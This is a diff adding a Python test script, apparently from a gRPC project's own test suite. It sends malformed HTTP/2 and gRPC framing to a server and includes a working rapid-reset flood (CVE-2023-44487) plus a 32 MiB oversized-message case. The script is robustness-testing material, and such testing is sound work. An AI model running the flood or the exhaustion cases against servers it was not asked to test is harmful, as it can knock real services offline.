@@ -1,0 +1,540 @@
+"""Hostile HTTP/2 clients for a gRPC server, written with hyper-h2 over a
+plain TCP socket (h2c, prior knowledge), for what a gRPC library refuses to
+send: broken gRPC framing, wrong headers, and a rapid-reset flood
+(CVE-2023-44487).
+
+    h2_hostile.py --target HOST:PORT [--timeout S] [--server-pid PID] case [--path P] NAME [NAME ...]
+    h2_hostile.py --target HOST:PORT [--timeout S] flood [--pairs N] [--with-request]
+
+`case` runs each named case, as a call of --path (default GetMACD) on a
+connection of its own, and prints one JSON object per line, in the order
+given:
+
+    {"case": NAME, "outcome": OUTCOME, "http_status": "200" or null,
+     "grpc_status": "13" or null, "grpc_message": TEXT or null,
+     "reset_code": N or null, "goaway_code": N or null, "data_bytes": N,
+     "frames_after_end": N, "protocol_error": TEXT or null,
+     "seconds": S, "sent_bytes": N, "server_rss_growth_kib": N or null}
+
+OUTCOME is "response" (the stream ended with headers or trailers), "stream
+reset" (the server sent RST_STREAM), "connection closed" (a GOAWAY, the socket
+closed, or a frame that breaks HTTP/2, named in protocol_error, before the
+stream ended) or "timeout" (nothing decisive within --timeout seconds: a hang,
+which the caller treats as a failure). frames_after_end counts the frames the
+server still sent on the stream in the 0.2 s after it ended (it should send
+none). server_rss_growth_kib (with --server-pid) is how much the server's
+resident memory grew while the case's stream was open.
+
+`flood` opens one connection and sends, as fast as it can, N HEADERS +
+RST_STREAM(CANCEL) pairs alternating /idc.Indicator/GetMACD and
+/idc.IndicatorGraph/GetMACDGraph (with --with-request, each HEADERS is
+followed by the request message with END_STREAM, so that the handler may run
+before the reset); then, if the connection is still open, one health check on
+it. It prints one JSON object: pairs sent, seconds, whether and after how
+many pairs a GOAWAY came (its error code, last stream id and debug text),
+whether the connection was closed, the frames the server sent on the streams
+already reset (by type), and the health check's result on the flooded
+connection.
+
+Every socket operation has a deadline, so no case can hang the caller.
+"""
+
+import argparse
+import json
+import select
+import socket
+import struct
+import sys
+import time
+
+try:
+    import h2.config
+    import h2.connection
+    import h2.errors
+    import h2.events
+    import h2.exceptions
+    import h2.settings
+except ImportError as err:  # a missing peer fails the test, with the fix
+    sys.exit(
+        "h2_hostile.py needs hyper-h2 (%s): install tests/python/requirements.txt into .venv "
+        "(scripts/test.sh does), e.g. .venv/bin/pip install -r tests/python/requirements.txt" % err
+    )
+
+GET_MACD = "/idc.Indicator/GetMACD"
+GET_MACD_GRAPH = "/idc.IndicatorGraph/GetMACDGraph"
+HEALTH_CHECK = "/grpc.health.v1.Health/Check"
+
+# What the huge-prefix streaming case offers to send: far past the server's 64 KiB receive limit
+# and past the 4 MiB stream window C-core grants up front, so that what the server lets through
+# shows whether it stops at the prefix or buffers what the prefix promises.
+STREAMED_BYTES = 32 << 20
+
+FRAME_TYPES = {0: "DATA", 1: "HEADERS", 3: "RST_STREAM", 8: "WINDOW_UPDATE"}
+
+
+def grpc_frame(message, flag=0, announced=None):
+    """A gRPC length-prefixed message: flag byte, 4-byte big-endian length
+    (the real one unless `announced` says otherwise), then the message."""
+    length = len(message) if announced is None else announced
+    return struct.pack(">BI", flag, length) + message
+
+
+def macd_request(start_date=b"2018-01-02", end_date=b"2018-01-31"):
+    """MACDRequest{start_date=1, end_date=2} encoded by hand (both fields are
+    length-delimited, wire type 2), so that no generated stub is needed."""
+    return b"\x0a" + bytes([len(start_date)]) + start_date + b"\x12" + bytes([len(end_date)]) + end_date
+
+
+def request_headers(target, path=GET_MACD, method="POST", content_type="application/grpc", te="trailers"):
+    headers = [(":method", method), (":scheme", "http"), (":path", path), (":authority", target)]
+    if content_type is not None:
+        headers.append(("content-type", content_type))
+    if te is not None:
+        headers.append(("te", te))
+    return headers
+
+
+def rss_kib(pid):
+    if pid is None:
+        return None
+    with open("/proc/%d/status" % pid) as status:
+        for line in status:
+            if line.startswith("VmRSS:"):
+                return int(line.split()[1])
+    return None
+
+
+class Stream:
+    """What one stream received."""
+
+    def __init__(self, stream_id):
+        self.stream_id = stream_id
+        self.outcome = None
+        self.http_status = None
+        self.grpc_status = None
+        self.grpc_message = None
+        self.reset_code = None
+        self.goaway_code = None
+        self.data_bytes = 0
+        self.frames_after_end = 0
+        self.protocol_error = None
+
+    def handle(self, conn, event):
+        """Records `event`; sets `outcome` when the stream is over."""
+        if isinstance(event, h2.events.ConnectionTerminated):
+            self.goaway_code = int(event.error_code)
+            # A graceful GOAWAY that spares this stream lets it finish.
+            if event.error_code != 0 or event.last_stream_id is None or event.last_stream_id < self.stream_id:
+                self.outcome = self.outcome or "connection closed"
+            return
+        if getattr(event, "stream_id", None) != self.stream_id:
+            return
+        if isinstance(event, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
+            for name, value in event.headers:
+                if name == ":status":
+                    self.http_status = value
+                elif name == "grpc-status":
+                    self.grpc_status = value
+                elif name == "grpc-message":
+                    self.grpc_message = percent_decode(value)
+        elif isinstance(event, h2.events.DataReceived):
+            self.data_bytes += len(event.data)
+            conn.acknowledge_received_data(event.flow_controlled_length, self.stream_id)
+        elif isinstance(event, h2.events.StreamReset):
+            self.reset_code = int(event.error_code)
+            self.outcome = self.outcome or "stream reset"
+        elif isinstance(event, h2.events.StreamEnded):
+            self.outcome = self.outcome or "response"
+
+    def as_dict(self):
+        return {
+            "outcome": self.outcome,
+            "http_status": self.http_status,
+            "grpc_status": self.grpc_status,
+            "grpc_message": self.grpc_message,
+            "reset_code": self.reset_code,
+            "goaway_code": self.goaway_code,
+            "data_bytes": self.data_bytes,
+            "frames_after_end": self.frames_after_end,
+            "protocol_error": self.protocol_error,
+        }
+
+
+def percent_decode(value):
+    """grpc-message is percent-encoded UTF-8 (gRPC's PROTOCOL-HTTP2.md)."""
+    raw = value.encode("utf-8")
+    out = bytearray()
+    i = 0
+    while i < len(raw):
+        if raw[i] == 0x25 and i + 3 <= len(raw):
+            try:
+                out.append(int(raw[i + 1 : i + 3], 16))
+                i += 3
+                continue
+            except ValueError:
+                pass
+        out.append(raw[i])
+        i += 1
+    return out.decode("utf-8", "replace")
+
+
+class Client:
+    """One h2c connection. What the server sends is split into frames and
+    given to h2 one frame at a time: h2 raises on a frame that breaks HTTP/2
+    and drops the events of the frames it parsed in the same batch, and C-core
+    sends such frames (a trailers-only response repeated on a stream it has
+    already ended) right after a first answer that we want to see."""
+
+    FRAME_HEADER = 9
+
+    def __init__(self, target, timeout):
+        host, port = target.rsplit(":", 1)
+        self.sock = socket.create_connection((host.strip("[]"), int(port)), timeout=timeout)
+        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        # Headers go out as given: the point is to send what a conforming client would not.
+        config = h2.config.H2Configuration(
+            client_side=True,
+            header_encoding="utf-8",
+            validate_outbound_headers=False,
+            normalize_outbound_headers=False,
+            validate_inbound_headers=False,
+        )
+        self.conn = h2.connection.H2Connection(config=config)
+        self.conn.initiate_connection()
+        # A large connection window, so that the server's replies never wait on us.
+        self.conn.increment_flow_control_window(16 << 20)
+        self.buffer = b""
+        self.closed = False
+        # Streams up to this id were reset by the flood: their frames are counted, not parsed.
+        self.forgotten_streams = 0
+        self.late_frames = {}
+        self.flush()
+
+    def flush(self):
+        """Sends what h2 has queued; False when the socket is closed."""
+        pending = self.conn.data_to_send()
+        if not pending:
+            return True
+        try:
+            self.sock.sendall(pending)
+            return True
+        except OSError:
+            self.closed = True
+            return False
+
+    def next_frame(self, deadline):
+        """The next whole frame from the server, or None when the socket
+        closed (`closed` is then set) or the deadline passed."""
+        while True:
+            if len(self.buffer) >= self.FRAME_HEADER:
+                length = int.from_bytes(self.buffer[:3], "big")
+                if len(self.buffer) >= self.FRAME_HEADER + length:
+                    frame = self.buffer[: self.FRAME_HEADER + length]
+                    self.buffer = self.buffer[self.FRAME_HEADER + length :]
+                    return frame
+            if self.closed:
+                return None
+            left = deadline - time.monotonic()
+            if left < 0:
+                return None
+            readable, _, _ = select.select([self.sock], [], [], left)
+            if not readable:
+                return None
+            try:
+                data = self.sock.recv(1 << 20)
+            except OSError:
+                data = b""
+            if not data:
+                self.closed = True
+            self.buffer += data
+
+    def events(self, deadline):
+        """The events of the next frame: a list (maybe empty), or None when
+        the connection is closed or the deadline passed. A frame that breaks
+        HTTP/2 raises h2's ProtocolError."""
+        frame = self.next_frame(deadline)
+        if frame is None:
+            return None
+        stream_id = int.from_bytes(frame[5:9], "big") & 0x7FFFFFFF
+        if stream_id and stream_id <= self.forgotten_streams:
+            # A frame on a stream we reset long ago, which h2 has forgotten and would call a
+            # connection error. Counted by type; a DATA frame's bytes are given back to the
+            # connection window.
+            kind = FRAME_TYPES.get(frame[3], str(frame[3]))
+            self.late_frames[kind] = self.late_frames.get(kind, 0) + 1
+            if frame[3] == 0 and len(frame) > self.FRAME_HEADER:
+                self.conn.increment_flow_control_window(len(frame) - self.FRAME_HEADER)
+                self.flush()
+            return []
+        events = self.conn.receive_data(frame)
+        self.flush()
+        return events
+
+    def read_until_over(self, stream, deadline):
+        """Reads until `stream` is over; False when the deadline passed
+        first. Then counts, for a moment, the frames the server still sends
+        on the stream."""
+        while stream.outcome is None:
+            try:
+                events = self.events(deadline)
+            except h2.exceptions.ProtocolError as err:
+                stream.outcome = "connection closed"
+                stream.protocol_error = "%s: %s" % (type(err).__name__, err)
+                break
+            if events is None:
+                if not self.closed:
+                    return False
+                stream.outcome = "connection closed"
+                break
+            for event in events:
+                stream.handle(self.conn, event)
+        linger = time.monotonic() + 0.2
+        while True:
+            frame = self.next_frame(linger)
+            if frame is None:
+                return True
+            if int.from_bytes(frame[5:9], "big") & 0x7FFFFFFF == stream.stream_id:
+                stream.frames_after_end += 1
+
+    def send_body(self, stream, body, end_stream, deadline):
+        """Sends `body` (not empty) on the stream as flow control allows,
+        reading the server's frames while the window is shut. Returns the
+        bytes sent: fewer than asked when the stream ended first or the
+        deadline passed."""
+        sent = 0
+        while stream.outcome is None:
+            try:
+                window = min(self.conn.local_flow_control_window(stream.stream_id), self.conn.max_outbound_frame_size)
+            except h2.exceptions.StreamClosedError:
+                return sent
+            if window <= 0:
+                try:
+                    events = self.events(deadline)
+                except h2.exceptions.ProtocolError as err:
+                    stream.outcome = "connection closed"
+                    stream.protocol_error = "%s: %s" % (type(err).__name__, err)
+                    return sent
+                if events is None:
+                    if self.closed:
+                        stream.outcome = "connection closed"
+                    return sent
+                for event in events:
+                    stream.handle(self.conn, event)
+                continue
+            piece = body[sent : sent + window]
+            last = end_stream and sent + len(piece) == len(body)
+            try:
+                self.conn.send_data(stream.stream_id, piece, end_stream=last)
+            except (h2.exceptions.StreamClosedError, h2.exceptions.ProtocolError):
+                return sent
+            if not self.flush():
+                stream.outcome = "connection closed"
+                return sent
+            sent += len(piece)
+            if sent == len(body):
+                return sent
+        return sent
+
+    def close(self):
+        try:
+            self.conn.close_connection()
+            self.flush()
+        except Exception:  # the server may have closed it already
+            pass
+        self.sock.close()
+
+
+def exchange(target, timeout, headers, body=b"", end_stream=True, server_pid=None):
+    """One stream on a new connection: `headers`, then `body` (possibly
+    empty) with END_STREAM if asked; then reads until the stream is over."""
+    started = time.monotonic()
+    deadline = started + timeout
+    client = Client(target, timeout)
+    try:
+        rss_before = rss_kib(server_pid)
+        stream = Stream(client.conn.get_next_available_stream_id())
+        client.conn.send_headers(stream.stream_id, headers, end_stream=end_stream and not body)
+        client.flush()
+        sent = client.send_body(stream, body, end_stream, deadline) if body else 0
+        if not client.read_until_over(stream, deadline):
+            stream.outcome = "timeout"
+        rss_after = rss_kib(server_pid)
+        result = stream.as_dict()
+        result["seconds"] = round(time.monotonic() - started, 3)
+        result["sent_bytes"] = sent
+        result["server_rss_growth_kib"] = None if rss_before is None else rss_after - rss_before
+        return result
+    finally:
+        client.close()
+
+
+def run_cases(target, timeout, server_pid, path, names):
+    # MACDGraphRequest has MACDRequest's fields and numbers: one encoding serves both methods.
+    request = macd_request()
+    post = request_headers(target, path)
+
+    def call(headers, body, **kwargs):
+        return lambda: exchange(target, timeout, headers, body, server_pid=server_pid, **kwargs)
+
+    cases = {
+        # The control: a well-formed call, which gets OK.
+        "well_formed": call(post, grpc_frame(request)),
+        # A gRPC frame whose prefix announces 100 bytes more than the stream carries.
+        "truncated": call(post, grpc_frame(request, announced=len(request) + 100)),
+        # The stream ends inside the 5-byte prefix.
+        "truncated_prefix": call(post, b"\x00\x00\x00"),
+        # A prefix announcing 4 GiB - 1 (the most 32 bits can say), then the stream ends.
+        "huge_prefix": call(post, grpc_frame(request, announced=0xFFFFFFFF)),
+        # The same prefix, then as many of the promised bytes as the server lets through, with
+        # the stream left open: the server must refuse the message at its receive limit rather
+        # than buffer what the prefix promises.
+        "huge_prefix_streaming": call(
+            post, grpc_frame(b"\x0a" * (STREAMED_BYTES - 5), announced=0xFFFFFFFF), end_stream=False
+        ),
+        # The compressed flag set, without a grpc-encoding header (so, identity).
+        "compressed_flag_without_encoding": call(post, grpc_frame(request, flag=1)),
+        # A flag byte that is neither 0 nor 1.
+        "bad_flag_byte": call(post, grpc_frame(request, flag=0x80)),
+        "content_type_text_plain": call(request_headers(target, path, content_type="text/plain"), grpc_frame(request)),
+        "content_type_missing": call(request_headers(target, path, content_type=None), grpc_frame(request)),
+        "get_instead_of_post": call(request_headers(target, path, method="GET"), b""),
+        "te_missing": call(request_headers(target, path, te=None), grpc_frame(request)),
+        # Two messages on a unary call.
+        "two_messages_unary": call(post, grpc_frame(request) + grpc_frame(request)),
+        # No message at all on a unary call.
+        "no_message_unary": call(post, b""),
+    }
+    for name in names:
+        if name not in cases:
+            sys.exit("unknown case %r; the cases are: %s" % (name, ", ".join(cases)))
+    for name in names:
+        result = {"case": name}
+        result.update(cases[name]())
+        print(json.dumps(result, ensure_ascii=True), flush=True)
+
+
+def flood(target, timeout, pairs, with_request):
+    """The rapid-reset flood on one connection; see the module's docstring."""
+    client = Client(target, timeout)
+    conn = client.conn
+    request_frame = grpc_frame(macd_request())
+    headers = [request_headers(target, GET_MACD), request_headers(target, GET_MACD_GRAPH)]
+    report = {
+        "pairs_requested": pairs,
+        "with_request": with_request,
+        "pairs_sent": 0,
+        "goaway_code": None,
+        "goaway_last_stream_id": None,
+        "goaway_after_pairs": None,
+        "goaway_debug": None,
+        "connection_closed": False,
+        "closed_after_pairs": None,
+        "protocol_error": None,
+        "window_waits": 0,
+        "server_initial_window": None,
+    }
+
+    def absorb(deadline):
+        """Handles what the server has sent, until `deadline` (now: only
+        what has already arrived)."""
+        while not report["connection_closed"]:
+            try:
+                events = client.events(deadline)
+            except h2.exceptions.ProtocolError as err:
+                report["protocol_error"] = report["protocol_error"] or "%s: %s" % (type(err).__name__, err)
+                events = []
+            if events is None:
+                if client.closed:
+                    report["connection_closed"] = True
+                    report["closed_after_pairs"] = report["pairs_sent"]
+                return
+            for event in events:
+                if isinstance(event, h2.events.ConnectionTerminated) and report["goaway_code"] is None:
+                    report["goaway_code"] = int(event.error_code)
+                    report["goaway_last_stream_id"] = event.last_stream_id
+                    report["goaway_after_pairs"] = report["pairs_sent"]
+                    if event.additional_data:
+                        report["goaway_debug"] = event.additional_data.decode("utf-8", "replace")
+                elif isinstance(event, h2.events.DataReceived):
+                    conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
+                elif isinstance(event, h2.events.RemoteSettingsChanged):
+                    window = event.changed_settings.get(h2.settings.SettingCodes.INITIAL_WINDOW_SIZE)
+                    if window is not None:
+                        report["server_initial_window"] = window.new_value
+
+    started = time.monotonic()
+    deadline = started + timeout
+    batch = 100
+    while report["pairs_sent"] < pairs and not report["connection_closed"] and report["goaway_code"] is None:
+        if time.monotonic() > deadline:
+            break
+        for _ in range(min(batch, pairs - report["pairs_sent"])):
+            sid = conn.get_next_available_stream_id()
+            conn.send_headers(sid, headers[sid // 2 % 2], end_stream=False)
+            if with_request:
+                # C-core shrinks the windows it grants under load (see "window_waits").
+                while conn.local_flow_control_window(sid) < len(request_frame):
+                    report["window_waits"] += 1
+                    client.flush()
+                    absorb(min(deadline, time.monotonic() + 0.1))
+                    if report["connection_closed"] or time.monotonic() > deadline:
+                        break
+                else:
+                    conn.send_data(sid, request_frame, end_stream=True)
+            conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
+            report["pairs_sent"] += 1
+            client.forgotten_streams = sid
+        if not client.flush():
+            report["connection_closed"] = True
+            report["closed_after_pairs"] = report["pairs_sent"]
+            break
+        absorb(time.monotonic())
+    report["flood_seconds"] = round(time.monotonic() - started, 3)
+    report["pairs_per_second"] = round(report["pairs_sent"] / max(report["flood_seconds"], 1e-6))
+
+    # Then a health check on the flooded connection, if it is still open.
+    report["same_connection_health"] = None
+    if not report["connection_closed"] and report["goaway_code"] is None:
+        check_started = time.monotonic()
+        try:
+            stream = Stream(conn.get_next_available_stream_id())
+            conn.send_headers(stream.stream_id, request_headers(target, HEALTH_CHECK), end_stream=False)
+            conn.send_data(stream.stream_id, grpc_frame(b""), end_stream=True)
+            client.flush()
+            if not client.read_until_over(stream, time.monotonic() + timeout):
+                stream.outcome = "timeout"
+            health = stream.as_dict()
+        except (OSError, h2.exceptions.ProtocolError) as err:
+            health = {"outcome": "connection closed", "protocol_error": str(err)}
+        health["seconds"] = round(time.monotonic() - check_started, 3)
+        report["same_connection_health"] = health
+    else:
+        # The server's last frames (a GOAWAY before its close), briefly.
+        absorb(time.monotonic() + 1.0)
+    report["frames_on_reset_streams"] = client.late_frames
+    client.close()
+    print(json.dumps(report, ensure_ascii=True), flush=True)
+
+
+def main(argv=None):
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    parser.add_argument("--target", required=True, help="HOST:PORT of a plaintext gRPC server")
+    parser.add_argument("--timeout", type=float, default=5.0, help="seconds any one case or the flood may take")
+    parser.add_argument("--server-pid", type=int, help="the server's pid, to report its memory growth")
+    sub = parser.add_subparsers(dest="command", required=True)
+    case = sub.add_parser("case")
+    case.add_argument("--path", default=GET_MACD, help="the method to call (default %(default)s)")
+    case.add_argument("names", nargs="+")
+    flood_cmd = sub.add_parser("flood")
+    flood_cmd.add_argument("--pairs", type=int, default=20000)
+    flood_cmd.add_argument("--with-request", action="store_true")
+    args = parser.parse_args(argv)
+    if args.command == "case":
+        run_cases(args.target, args.timeout, args.server_pid, args.path, args.names)
+    else:
+        flood(args.target, args.timeout, args.pairs, args.with_request)
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
